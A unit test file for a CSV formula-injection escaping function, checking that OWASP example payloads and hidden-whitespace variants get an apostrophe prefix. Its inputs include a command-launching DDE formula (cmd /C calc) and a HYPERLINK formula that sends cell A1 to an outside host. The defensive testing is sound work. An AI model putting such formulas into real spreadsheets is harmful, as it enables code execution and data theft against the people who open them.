import { describe, expect, it } from 'vitest'
import { escapeFormula } from '../../src/table/escapeFormula.js'

// https://owasp.org/www-community/attacks/CSV_Injection: the starts it names, and its examples.
const owasp = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1+1)*cmd|"/C calc"!A0', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)'],
  ...[
    '=1+2";=1+2',
    `=1+2'" ;,=1+2`,
    '=HYPERLINK("http://a.nl?x="&A1,"klik")',
    `=cmd|' /C calc'!A0`,
    '=IMPORTXML(CONCAT("http://a.nl"),"//a")',
  ],
]

describe('escapeFormula', () => {
  it.each(owasp)('disarms %j', text => {
    expect(escapeFormula(text)).toBe(`'${text}`)
  })

  it.each(['  =1', '\u00A0=1', '\uFEFF=1', '\u200B=1', '\u0001@a', '-5', '\tplain', '﹦1'])('looks past what is not seen: %j', text => {
    expect(escapeFormula(text)).toBe(`'${text}`)
  })

  it('escapes what looks escaped, so that it can be taken back', () => {
    expect(escapeFormula("'=1")).toBe("''=1")
  })

  it.each(['', 'a=1', 'a - b', '1-2', "'a", '3', '“-”', '.5'])('leaves %j alone', text => {
    expect(escapeFormula(text)).toBe(text)
  })
})
